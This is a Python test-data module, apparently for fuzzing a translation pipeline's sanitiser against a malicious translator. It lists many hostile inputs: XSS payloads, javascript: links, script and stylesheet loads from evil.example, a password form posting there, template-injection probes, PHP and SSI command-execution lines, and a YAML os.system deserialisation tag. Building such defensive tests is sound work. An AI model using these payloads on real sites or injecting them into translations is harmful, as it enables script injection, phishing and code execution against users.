"""What a translator who means harm writes. M stands for the whole msgid, so that codes come along; a tuple goes to the
messages of a page in turn; a function makes the translation from the msgid."""
import re

M = "\ue000"  # no text of a context holds it

MARKUP = [
    "<script>alert(1)</script>", M + "<ScRiPt src=//evil.example/x.js></sCrIpT>", M + " <script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>", M + '<img/src="x"/onerror=alert(1)>', M + "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>", M + "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    M + '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
    M + "<style>@import url(//evil.example/x.css)</style>", M + '<link rel=stylesheet href="//evil.example/x.css">',
    M + '<meta http-equiv=refresh content="0;url=//evil.example">', M + '<base href="//evil.example/">',
    M + '<form action="//evil.example"><input name=p type=password></form>', M + "<input autofocus onfocus=alert(1)>",
    M + "<details open ontoggle=alert(1)>x</details>", M + '<object data="data:text/html,x"></object>',
    M + "<embed src=//evil.example/x.swf>", M + "<marquee onstart=alert(1)>",
    M + "<x-y onclick=alert(1) tabindex=0>x</x-y>", M + "<p onclick=alert(1)>x", M + "<b>x</b>", M + "<b>x",
    M + "</b>", "</p>" + M, "</p><p>" + M + "</p>", M + "</div>", M + "</p></div></body></html>", M + "</td><td>x",
    M + "</li><li>x", M + "<hr>", M + "<br>", M + "<br/><br/>", M + "<h1>x</h1>", M + "<td>x",
    M + "<body onload=alert(1)>", M + "<html onclick=alert(1)>", M + "<plaintext>", M + "<xmp>", M + "<template>",
    M + "<noscript>", M + "<title>", M + "<textarea>", M + "<select><option>", M + "<frameset>",
    M + "<image src=x onerror=alert(1)>", M + "<isindex>", M + "<a", M + "<a href=", M + '<a href="',
    M + "<img src=x alt='", "<" + M, M + "<", M + "</", M + "</ b>", M + "<b", M + "<!--", M + "-->", M + "<!-- x -->",
    M + "<!-->", M + "--!><script>alert(1)</script>", M + "<!--><script>alert(1)",
    M + "<![CDATA[<script>alert(1)</script>]]>", M + "]]><script>alert(1)</script>", M + "<!DOCTYPE html>", M + "<!x",
    M + "<?xml version='1.0'?>", M + "<?x", M + "<? echo 1 ?>", M + "<?php echo 1 ?>", M + "<?= 1 ?>", M + "<?=1",
    M + "<% x %>", M + "<%= x %>", M + "<%", M + "<#assign x=1>", M + '<c:out value="x"/>',
    M + "<cfoutput>x</cfoutput>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>", "</style><script>alert(1)</script>", "</noscript><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>", "</button><img src=x onerror=alert(1)>",
    "</svg><script>alert(1)</script>", "</math><img src=x onerror=alert(1)>", "</pre><script>alert(1)</script>",
    "</template><script>alert(1)</script>", "</a><a href=//evil.example>x", "</SCRIPT/><img src=x onerror=alert(1)>",
    "</script\t>x", "<!--<script>", "\\u003c/script\\u003e", "\\u003cscript>",
    M + "\u00a0<\u00a0script>alert(1)</script>", M + "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
]

ATTRIBUTES = [
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", " onmouseover=alert(1) x=", '"><script>alert(1)</script>',
    "'><script>alert(1)</script>", "><script>alert(1)</script>", "`onmouseover=alert(1)`", '"onmouseover=alert(1) ',
    "\\\" x=\\\"", "\" style=\"background:url(//evil.example)", "/onmouseover=alert(1)", "x/>", "x>", "=x", "''", '""',
    "\"", "'", "`", "a=b c=d", "\tonmouseover=alert(1)", "\nonmouseover=alert(1)", "\fonmouseover=alert(1)",
    "\u00a0onmouseover=alert(1)", "Hola\\",
]

REFERENCES = [
    "&lt;script&gt;alert(1)&lt;/script&gt;", M + "&ltscript&gtalert(1)", "&#60;script&#62;alert(1)&#60;/script&#62;",
    M + "&#x3c;img src=x onerror=alert(1)&#x3E;", "&quot; onmouseover=&quot;alert(1)", "&#34;><script>",
    "&#39; onclick=&#39;x", "&apos; onclick=&apos;x", "&amp;lt;script&amp;gt;", "&amp;amp;lt;", M + "&", M + "&#",
    M + "&#x", M + "&amp", M + "&lt", M + "&#0;", M + "&#x0;", M + "&#x80;", M + "&#xD800;", M + "&#x110000;",
    M + "&#99999999999999999999;", M + "&#13;&#10;x", M + "&NewLine;# x", M + "&Tab;x", M + "&#8238;x", M + "&#133;x",
    M + "&nbsp;&copy;&reg", M + "&notit;", M + "&lbrace;&lbrace;x}}", M + "&#123;&#123; 7*7 &#125;&#125;",
    M + "&#x7b;{ 7*7 }}", M + "{&#123; 7*7 }}", M + "{&lcub;x}}", M + "#{&lbrace; x }}", M + "@({&#123; x }})",
    M + "&#8;x", M + "&#11x", M + "&#8232;x", M + "&#xFFFE;", M + "&#x1b;[x", "&lt;!--" + M, M + "&lt;?php echo 1 ?&gt;",
    M + "&bsol;`x`", M + "&ast;x&ast;", M + "&#42;&#42;x&#42;&#42;", M + "&excl;&lsqb;x](//evil.example/y)",
]

ADDRESSES = [
    M + '<a href="javascript:alert(1)">x</a>', M + "<a href='JaVaScRiPt:alert(1)'>x</a>",
    M + '<a href="java\tscript:alert(1)">x</a>', M + '<a href=" \x01javascript:alert(1)">x</a>',
    M + '<a href="&#106;avascript:alert(1)">x</a>', M + '<a href="&#x6a&#x61vascript&colon;alert(1)">x</a>',
    M + '<a href="javascript&colon;alert(1)">x</a>', M + '<a href="vbscript:msgbox(1)">x</a>',
    M + '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', M + '<a href="//evil.example">x</a>',
    M + '<a href="https:evil.example">x</a>', M + '<a href="\\\\evil.example">x</a>', M + "[x](javascript:alert(1))",
    M + "[x](<javascript:alert(1)>)", M + "[x](java&#115;cript:alert(1))", M + "[x](//evil.example)",
    M + "[x](data:text/html,x 'y')", M + "![x](//evil.example/p.png)", M + "[x][evil]", M + "[x]: //evil.example",
    "[x]: javascript:alert(1)", "javascript:alert(1)", "data:text/html,x 'y'",
    "[r]: //evil.example", "[plan]: //evil.example", "[^1]: x", M + "[^1]", M + "[^x]: y",
    M + "<https://evil.example>", M + " https://evil.example", M + " http://evil.example/x?y=1",
    M + " www.evil.example", M + " ftp://evil.example", M + " x@evil.example", M + " mailto:x@evil.example",
    M + "<x@evil.example>", M + " ¡www.evil.example!", M + " _www.evil.example_", M + " mailto:x@y", M + " x@ñ.example",
    M + ' "a b"@evil.example', M + "<javascript:alert(1)>", M + " //evil.example", M + " evil.example",
    M + " evil.com", M + " evil.com…",
    M + " xmpp:x@evil.example/y", M + "[x](y \"z\" onclick=alert(1))", M + "](//evil.example)", "[" + M, M + "]",
    M + "[[x]]", M + "[x] [plan]", M + "[x][plan]",
]

MARKDOWN = [
    "# " + M, "####### x", "#\t" + M, "- " + M, "* x", "+ x", "1. " + M, "1) x", "2021. Un buen libro", "-", "> " + M,
    ">x", "    " + M, "\t" + M, "```\n" + M, "~~~ x", "``` js", "`" + M, M + "`", "``" + M + "`", "---", "***", "___",
    "===", "--- x", "- - -", M + "\n===", M + "\n---", M + "\n\n# x", M + "\n\n    x", M + "\n- x", M + "\n1. x",
    M + "\n> x", M + "\n```\nx", M + "\n<div>", M + "\n| a | b |\n| - | - |", "a | b\n- | -", "| " + M + " |",
    M + " | x", "|x|y|", "\\|", M + "\\", M + "\\\\", M + "\\\n# x", M + "\\\n- x", M + "\\\n===", M + "\\\n\\\nx",
    M + "  \n# x", "- [ ] x", "[ ] x", "[x] " + M, "**" + M, "__" + M + "__", "*x* **y** _z_ ~~w~~", "x_y_z *a",
    "~~" + M + "~~", "~x~", M + "{.x}", "<div>" + M + "</div>", "<div\nonclick=alert(1)>", "<script\n>",
    "<!-- " + M + " -->", "<?" + M, "<!A", "<![CDATA[", "</div>", "<x-y>", "<pre>" + M, "<table>", "<div markdown=1>",
    "<div markdown=\"1\">*x*</div>", "*x*{: onclick=\"alert(1)\"}", M + "{: onclick=\"alert(1)\"}",
    M + "{:onclick='alert(1)'}", "{: onclick=\"alert(1)\"}", "{: .x #y}", M + "\n{: #x}", M + "{::comment}x{:/}",
    "{::comment}" + M, "{::options auto_ids=\"true\"/}", "{::nomarkdown}<script>alert(1)</script>{:/}",
    M + "{::nomarkdown}<b>x</b>{:/nomarkdown}", "{:/}", "{:x: onclick=\"alert(1)\"}", "{:toc}",
    M + "{onclick=alert(1)}", M + "{#x onclick=alert(1)}", "`x`{: onclick=\"alert(1)\"}", "[x]{: onclick=\"a\"}",
    M + "$$x$$", "$$\nx\n$$", "$$ x $$", "\\$$x$$", M + "\\(x\\)", "*[HTML]: evil", "*[report]: evil", "^", ": x",
    M + "\n: x", "x\n: y", "::: tip", ":::" + M, "!!! note", "??? x", "=== \"x\"", "[TOC]", "% x", "+++", "{% raw %}",
    "@[x](y)", "==x==", "^x^", "> [!NOTE]", "[!NOTE]", "> [!NOTE]\n> x", "|-", "|---|", "---|---", "a\n|-|-|\n",
    ":-: | :-:", "{: | onclick=a}", "\u2028# x", "\u2029- x", "\u0085> x", "\x0b# x", "\x0c# x",
    "\u00a0\u00a0\u00a0\u00a0x", "\u3000x", "+ \n", "0. x", "999999999) x", "1234567890. x",
    "-\t" + M, "<b>" + M + "</b>", "[](x)",
    "![]()", "&#35; x", "\\# x", "\\<b>x</b>", "\\\\<b>x</b>", "<b\\>x", "<!-- x\n\ny -->", "<a b=\"\n\n\">x",
    "<div>\n\n# x\n\n</div>",
]

TEMPLATES = [
    M + "{{ 7*7 }}", "{{ constructor.constructor('alert(1)')() }}", M + "{{x}}", M + "{{{x}}}", M + "{{", M + "}}",
    M + "{%x%}", M + "{% include 'x' %}", M + "{% raw %}", M + "{% endraw %}", M + "{% endif %}", M + "{% if y %}",
    M + "{# x #}", M + "{#", M + "#}", M + "{{ user.password }}", "{{ user.name", M + "%}", M + "${7*7}", M + "#{7*7}",
    M + "{x:<script>alert(1)</script>}", M + "{n, date, <b onclick=alert(1)>}", "${[x](javascript:alert(1))}",
    M + "@(7*7)", M + "{!! x !!}", M + "[[ x ]]", M + "[% x %]", M + "{@html x}", M + "*{x}", M + "~{x}",
    M + "<%- x %>", M + "<%# x %>", M + "{{</* x */>}}", M + "{{< x >}}", M + "{{% x %}}", M + "{{- x -}}",
    M + "{{!-- x --}}", M + "{{> x}}", M + "{{#if x}}", M + "{{/if}}", M + "<?php system($_GET['x']) ?>",
    M + "<?PHP x", M + "<?=`id`?>", M + "<script language=php>x</script>", M + "<!--#exec cmd=\"id\" -->",
    M + "<!--#include x-->", (M + "{", "{ 7*7 }}" + M), (M + "<?", "= 1 ?>" + M), (M + "{%", " x %}" + M),
    (M + "{", "% x %}"), (M + "<", "script>alert(1)</script>"), (M + "<!-", "-x"), (M + "$", "{7*7}"),
    (M + "&#12", "3;{x}}"), ("{{ x", "}}"), ("```", M), ("<b>" + M, M + "</b>"), ("|", "|"), ("<div>", "</div>"),
]

YAML = [
    "x: y", "x:", ": x", "Hola: evil\nlayout: evil", "Hola\nlayout: evil", "Hola\rlayout: evil",
    "Hola\u0085layout: evil", "Hola\u2028layout: evil", "Hola\u2029layout: evil", "Hola\x0blayout: evil",
    "Hola\x0clayout: evil", "Hola\r\nlayout: evil", "Hola\n---\nlayout: evil", "Hola\n...\nlayout: evil", "---", "...",
    "--- x", "\n---\n", "Hola\n---", "&a x", "*a", "*t", "!x y", "!!python/object/apply:os.system ['id']",
    "!ruby/object:X {}", "| x", "> x", "|", ">-", "- x", "-x", "? x", "[x]", "[x", "x]", "{x: y}", "{x", "x}", "x, y",
    "x, layout: evil", "x}, y", "'", "''", "'x", "x'", "\"", "\"x", "x\"", "\\", "\\x41", "x \\", "x\\n", "#", "# x",
    "x # y", "x #", "x#y", "%x", "%YAML 1.1", "@x", "`x`", "~", "null", "Null", "true", "yes", "No", "on", "off", "y",
    "1", "1.5", "1_000", "1,000", "1,5", "0x1F", "0o14", "017", "0b11", "1e3", ".5", "5.", "-.inf", ".NaN", ".inf",
    "+1", "+.inf", "12:30", "12:30:45", "2024-01-01", "2024-01-01 12:00:00", "2024-01-01T12:00:00Z", "=", "<<",
    "<<: *t", ":x", ":x y", "::x", ":'x'", "x:y", "x :y", "http://x", "\tx", "x\ty", "x\t# y", "x:\ty", " x ", "x\n y",
    "x\n  y", "x\n    y\nz", "x\n\ny", "x\n\n\n y", "\n\nx", "x\n\n", "x\n\ty", "x\n# y", "x\n  # y", "x\n- y",
    "x\nlayout: y", "x\n\nlayout: y", " x\ny", "  x\n y", "\u00a0x", "\u200bx", "\ufeffx", "x\ufeff", "x\ufeff\ny",
    "x\ufffe", "x\U0001f600", "é: ñ", "x\u00a0# y", "x\n---y", "x\n--- y", "Hola\n...", "...x", "---x", "--", "-- x",
    "\ufeff---", "Hola\n+++\n", "x\n}\n", "[]", "{}", "''x", "'x' y", "\"x\" y", "x 'y", "1.2.3", "1-2", "1 2", "$1",
    "50 %", "<x>", ">x", "!", "&", "*",
]

CHARACTERS = [
    M + "\0", "x\0y", M + "\x01", M + "\x07\x08\x0b\x0c\x0e\x1b\x1f", M + "\x7f", M + "\x80\x9f", M + "\r", M + "\r\n",
    M + "\r\r# x", M + "\r    x", M + "\u0085", M + "\u2028", M + "\u2029", M + "\x1b[31m", M + "\u202egpj.exe",
    M + "\u2066x\u2069", M + "\u200b", M + "\u00ad", M + "\ufeff", "\ufeff" + M, M + "\ufffd", M + "\uffff",
    M + "\U0010ffff", M + "\ue001", M + "a\u0301\u0323" * 40, M + "\n", "\n" + M, M + "\n\n", "\n\n" + M + "\n\n",
    M + "\t", "\t", " ", "\n", "-", "x", "\u00a0", "\u3000" + M, M + " " * 300 + "x", "x" * 5000, "<b>" * 500 + M,
    "[" * 500, "*" * 500 + "x", "&" * 500, "{" * 500, "`" * 301, "(" * 500, "<" * 500, "\\" * 501, ">" * 500,
    "- " * 200 + "x", "> " * 200 + "x", "1. " * 90 + "x", "{{" * 200, "<!--" * 100, "\u0416\u4e2d\u05d0\u0627",
    M + "\U0001f468\u200d\U0001f469", "\ud55c\uae00",
]


def tags_of(text):
    return re.findall(r"</?[A-Za-z][A-Za-z0-9]*/?>", text)


def in_tags(how):
    """Every tag of the msgid, changed."""
    return lambda text: re.sub(r"<(/?)([A-Za-z][A-Za-z0-9]*)([^<>]*)>", how, text)


def in_open_tags(attribute):
    return in_tags(lambda tag: tag[0] if tag[1] else f"<{tag[2]} {attribute}{tag[3]}>")


def without_closers(text):
    return re.sub(r"</[^>]*>", "", text)


def without_openers(text):
    return re.sub(r"<[A-Za-z][^>]*>", "", text)


def crossed(text):
    tags = tags_of(text)
    return "".join(sorted(tags, key=lambda tag: tag.strip("</>"))) + re.sub(r"<[^>]*>", "", text)


def reversed_tags(text):
    parts = re.split(r"(<[^>]*>)", text)
    parts[1::2] = parts[1::2][::-1]
    return "".join(parts)


def with_other_targets(target):
    return lambda text: re.sub(r"\]\([^)]*\)", f"]({target})", text)


CODES = [
    in_open_tags("onclick=alert(1)"), in_open_tags('href="javascript:alert(1)"'),
    in_open_tags('style="x" title=\'y\''), in_open_tags("x"), in_open_tags('alt="x" onerror="alert(1)"'),
    in_open_tags("alt=x onerror=alert(1)"), in_open_tags("alt='x\" onerror=\"alert(1)'"),
    in_open_tags('alt="&quot; onerror=&quot;alert(1)"'), in_open_tags('alt=""'), in_open_tags("alt"),
    in_open_tags("alt='&#60;b>'"), in_open_tags("ALT=x"), in_open_tags('href="/p" href="//evil.example"'),
    in_open_tags('href="//evil.example" href="/p"'), in_open_tags("alt=\"\n\n# x\""), in_tags(lambda tag: tag[0] * 2),
    in_tags(lambda tag: f"<{tag[2]}/>"), in_tags(lambda tag: f"<{tag[1]}{tag[2].upper()}{tag[3]}>"),
    in_tags(lambda tag: f"<{tag[1]} {tag[2]}{tag[3]}>"), in_tags(lambda tag: f"<{tag[1]}{tag[2]}9{tag[3]}>"),
    in_tags(lambda tag: f"<{tag[1]}{tag[2]}\n{tag[3]}>"), in_tags(lambda tag: f"&lt;{tag[1]}{tag[2]}&gt;"),
    in_tags(lambda tag: f"<{tag[1]}script>"), in_tags(lambda tag: ""), in_tags(lambda tag: f"<{tag[1]}{tag[2]}"),
    in_tags(lambda tag: f"</{tag[2]}>"), in_tags(lambda tag: f"<{tag[2]}>"), in_tags(lambda tag: f"{tag[1]}{tag[2]}>"),
    without_closers, without_openers, crossed, reversed_tags, lambda text: text + text,
    lambda text: "".join(tags_of(text)), lambda text: "".join(tags_of(text)[::-1]) + text, lambda text: text[::-1],
    lambda text: text.replace("<", "<<"), lambda text: text.replace(">", ""),
    lambda text: text.replace(" ", "</b> <b>"), lambda text: text.replace(" ", "\n"),
    lambda text: text.replace("{{", "{{{{"), lambda text: text.replace("}}", ""),
    lambda text: text.replace("{{ ", "{{ evil."), lambda text: text.replace("name", "name | safe"),
    lambda text: text.replace("{{", "{{ x }}{{"), lambda text: text.replace("?>", "; evil() ?>"),
    lambda text: text.replace("%>", "| evil %>"), with_other_targets("javascript:alert(1)"),
    with_other_targets("//evil.example"), with_other_targets("<data:text/html,x>"),
    with_other_targets("/p \"x\" onclick=y"), lambda text: text.replace("](", "]\\("),
    lambda text: text.replace("[", "[["), lambda text: text.replace("]", "] "), lambda text: text.replace("*", "**"),
    lambda text: text.replace("`", "``"), lambda text: text.replace("`", ""),
    lambda text: text.replace("/p", "//evil.example/p"), lambda text: text.replace("track", "alert"),
    lambda text: text.replace("https://", "https://evil."),
    lambda text: text.replace(".org in", ".org>@evil.example in"), lambda text: text.replace(".org in", ".org\"@evil.example in"),
    lambda text: text.replace(".org in", ".org|@evil.example in"), lambda text: text.replace(".org in", ".org{@evil.example in"),
    lambda text: text.replace(".org in", ".org\\@evil.example in"), lambda text: text.replace(".org in", ".org@evil.example in"),
    lambda text: text.replace(".org in", ".org:x@evil.example in"), lambda text: text.replace(".org in", ".org.evil.example in"),
    lambda text: text.replace(".org in", ".org*@evil.example in"), lambda text: text.replace(".org in", ".org]@evil.example in"), lambda text: text.replace("[r]", "[x]"),
    lambda text: text.replace("[plan]", "[other]"), lambda text: text.replace("class", "onclick"),
    lambda text: text.replace("\\\n", "\\\n\\\n# "), lambda text: text.replace("\\\n", "\n\n"),
    lambda text: re.sub(r'"[^"]*"', '"&#106;avascript:x"', text), lambda text: text.replace("[^1]", "[^2]"),
    lambda text: text.replace("<b>", '<b class="x">'), lambda text: text.replace("<a ", "<a onmouseover=alert(1) "),
    lambda text: text.replace("<a ", "<A HREF=x "),
]

HOSTILE = MARKUP + ATTRIBUTES + REFERENCES + ADDRESSES + MARKDOWN + TEMPLATES + YAML + CHARACTERS + CODES

# What no judge may object to: it must arrive, letter for letter where the msgid has no codes.
HONEST = [
    "El informe", "«Sí», dijo R&D, ¿verdad?", "El 5 < 6 y el 7 > 2", "Entre \"comillas\" y 'otras'",
    "Un 50 % de 3 000 $", "Niños y niñ@s, [sic] y (aún)", "Año 2024: el informe", "C++ y C#, a/b, ¡ya!",
]
